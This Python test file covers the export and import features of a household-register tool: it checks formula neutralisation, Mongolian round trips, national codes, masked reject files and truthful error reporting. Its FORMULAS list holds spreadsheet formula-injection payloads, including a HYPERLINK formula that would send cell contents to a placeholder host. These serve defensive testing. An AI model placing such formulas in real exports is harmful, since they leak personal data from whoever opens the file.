"""Exports no spreadsheet evaluates, byte-exact Mongolian both ways, national codes out, and
reject files that hold no plaintext IDs or phones and whose failure is reported truthfully."""

from __future__ import annotations

import csv
import os
import re
import stat
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
import small_disk as small_disks
from corpus import BATU_MN, EN_HEADER, FAMILY, ID_HEAD, MN_SUFFIX, csv_bytes, row
from small_disk import SmallDisk

from subei_mobile.cli import main as cli
from subei_mobile.exchange.households import HOUSEHOLDS, export_households
from subei_mobile.exchange.importer import run_import
from subei_mobile.exchange.requests import export_requests
from subei_mobile.exchange.workbook import write_workbook
from subei_mobile.exchange.xlsx_reader import read_xlsx_rows
from subei_mobile.store import Store, open_store

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&I2&J2)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\uff1d1+1",  # full-width equals: some spreadsheets treat it as a formula too
]


@pytest.fixture
def store(tmp_path: Path) -> Store:
    return open_store(tmp_path / "data")


def loaded(store: Store, tmp_path: Path) -> Store:
    rows = [*FAMILY, *[row(household_code=f"F-{i}", name_zh=text, id_number="")
                       for i, text in enumerate(FORMULAS)]]  # fmt: skip
    path = tmp_path / "in.csv"
    path.write_bytes(csv_bytes([EN_HEADER, *rows]))
    report = run_import(store, HOUSEHOLDS, path)
    assert report.rejected == [] and report.new == len(rows)
    return store


def xml_parts(path: Path) -> Iterator[tuple[str, str]]:
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.endswith(".xml"):
                yield name, zf.read(name).decode("utf-8")


def test_xlsx_export_has_no_formula_elements(store: Store, tmp_path: Path) -> None:
    loaded(store, tmp_path)
    out = tmp_path / "out.xlsx"
    export_households(store, out)
    sheets = dict(xml_parts(out))
    for name, xml in sheets.items():
        assert not re.search(r"<(\w+:)?f[\s>/]", xml), name  # no <f> anywhere
    sheet = sheets["xl/worksheets/sheet1.xml"]
    assert "HYPERLINK" in sheet and 't="inlineStr"' in sheet  # the text is there, as text
    write_workbook(tmp_path / "book.xlsx", [("a", ["x", "n"], [[FORMULAS[0], 3]])])
    assert not any(re.search(r"<(\w+:)?f[\s>/]", x) for _, x in xml_parts(tmp_path / "book.xlsx"))


def test_csv_export_quotes_formula_like_cells_and_reimports_them_unchanged(
    store: Store, tmp_path: Path
) -> None:
    loaded(store, tmp_path)
    out = tmp_path / "out.csv"
    export_households(store, out)
    with open(out, encoding="utf-8", newline="") as fh:
        names = [r["name_zh"] for r in csv.DictReader(fh)]
    for text in FORMULAS:
        assert "'" + text in names  # OWASP: a leading apostrophe; no cell starts like a formula
    assert not [n for n in names if n[:1] in "=+-@\uff1d"]
    again = run_import(store, HOUSEHOLDS, out)
    assert (again.new, again.updated, again.rejected) == (0, 0, [])
    stored = {r[0] for r in store.conn.execute("SELECT name_zh FROM persons")}
    assert set(FORMULAS) <= stored


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_mongolian_round_trip_is_byte_exact(store: Store, tmp_path: Path, suffix: str) -> None:
    loaded(store, tmp_path)
    first = tmp_path / f"first{suffix}"
    export_households(store, first)
    other = open_store(tmp_path / "other")
    assert run_import(other, HOUSEHOLDS, first).new == 3 + len(FORMULAS)
    second = tmp_path / f"second{suffix}"
    export_households(other, second)
    for s in (store, other):
        stored = {r[0] for r in s.conn.execute("SELECT name_mn FROM persons")}
        assert {BATU_MN.encode(), MN_SUFFIX.encode()} <= {x.encode() for x in stored}
    if suffix == ".csv":
        assert first.read_bytes() == second.read_bytes()
    else:
        assert dict(xml_parts(first))["xl/worksheets/sheet1.xml"] == dict(
            xml_parts(second))["xl/worksheets/sheet1.xml"]  # fmt: skip


def test_export_with_national_codes_imports_back(store: Store, tmp_path: Path) -> None:
    loaded(store, tmp_path)
    out = tmp_path / "gb.csv"
    export_households(store, out, codes="gb")
    with open(out, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    head = next(r for r in rows if r["id_number"] == ID_HEAD)
    assert (head["relation"], head["sex"], head["ethnicity"]) == ("02", "1", "02")
    assert head["township"] == "620923100" and head["village"] == "620923100200"
    assert {r["relation"] for r in rows} == {"02", "10", "20"}
    other = open_store(tmp_path / "other")
    report = run_import(other, HOUSEHOLDS, out)
    assert report.rejected == [] and report.new == len(rows)
    assert {c.value for c in report.changes if c.column == "relation"} == {"02", "10", "20"}


def test_exports_survive_legacy_control_characters(store: Store, tmp_path: Path) -> None:
    """Records saved before the text rules may hold ESC or BEL: XLSX export must not fail."""
    loaded(store, tmp_path)
    pid = store.conn.execute("SELECT id FROM persons LIMIT 1").fetchone()[0]
    store.conn.execute("UPDATE persons SET name_zh = ? WHERE id = ?", ("旧\x1b[31m名\x07", pid))
    assert store.conn.execute("SELECT COUNT(*) FROM persons WHERE name_zh LIKE '旧%'").fetchone()[0]
    out = tmp_path / "legacy.xlsx"
    export_households(store, out)
    names = {r.cells[1] for r in read_xlsx_rows(out)}
    assert "旧\ufffd[31m名\ufffd" in names
    export_requests(store, tmp_path / "r.xlsx")


# ----------------------------------------------------------------------------- reject files


def bad_file(tmp_path: Path) -> Path:
    path = tmp_path / "register.csv"
    path.write_bytes(csv_bytes([EN_HEADER, *FAMILY,
                                row(household_code="BAD-1", township="不存在乡",
                                    phone="13912345678")]))  # fmt: skip
    return path


def test_reject_file_is_masked_owner_only_and_named(store: Store, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    path = bad_file(tmp_path)
    old = os.umask(0o022)
    try:
        code = cli(["--data-dir", str(tmp_path / "cli"), "import", "households", str(path),
                    "--skip-bad"])  # fmt: skip
    finally:
        os.umask(old)
    out = capsys.readouterr()
    reject = tmp_path / "register.rejected.csv"
    assert code == 0 and str(reject) in out.out
    assert stat.S_IMODE(reject.stat().st_mode) == 0o600
    text = reject.read_text(encoding="utf-8")
    assert ID_HEAD not in text and "13912345678" not in text
    assert ID_HEAD[:6] + "********" + ID_HEAD[-4:] in text and "139****5678" in text
    assert ID_HEAD not in out.out + out.err and "13912345678" not in out.out + out.err


small_disk = small_disks.small_disk  # a 4 MB tmpfs (tests/small_disk.py)


@pytest.fixture
def full_disk(small_disk: SmallDisk) -> Path:
    """A real tmpfs filled to the last block: the reject file's directory."""
    small_disk.fill()
    return small_disk.root


def test_summary_stays_true_when_the_reject_file_cannot_be_written(
    tmp_path: Path, full_disk: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = bad_file(tmp_path)
    code = cli(["--data-dir", str(tmp_path / "cli"), "import", "households", str(path),
                "--skip-bad", "--reject-file", str(full_disk / "rejects.csv")])  # fmt: skip
    out = capsys.readouterr()
    assert code == 1
    assert "new 3, updated 0, unchanged 0, rejected 1" in out.out
    assert "disk_full" in out.err and "register.csv:5:" in out.err
    assert "nothing was written" not in out.err and "没有写入" not in out.err
    assert sorted(p.name for p in full_disk.iterdir()) == ["filler"]  # no half file left
    store = open_store(tmp_path / "cli")
    assert store.conn.execute("SELECT COUNT(*) FROM persons").fetchone()[0] == 3


# ----------------------------------------------------------------------------- command line


def test_cli_reports_encoding_code_set_changes_and_gbk_hint(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "gbk.csv"
    path.write_bytes(csv_bytes([EN_HEADER, *FAMILY], "gbk", errors="replace"))
    code = cli(["--data-dir", str(tmp_path / "d"), "import", "households", str(path)])
    err = capsys.readouterr().err
    assert code == 2
    assert "GBK" in err and "relation: 长子 -> son" in err and "x1" in err
    assert "gbk.csv:2: name_mn" in err and "CSV UTF-8" in err


def test_cli_unknown_column_needs_ignore_column(tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:  # fmt: skip
    path = tmp_path / "extra.csv"
    path.write_bytes(csv_bytes([[*EN_HEADER, "phnoe2", "备注"], [*FAMILY[0], "", "x"]]))
    args = ["--data-dir", str(tmp_path / "d"), "import", "households", str(path)]
    assert cli(args) == 2
    assert "file.unknown_columns" in capsys.readouterr().err
    assert cli([*args, "--ignore-column", "phnoe2", "--ignore-column", "备注"]) == 0
    err = capsys.readouterr().err
    assert "phnoe2" in err and "备注" in err
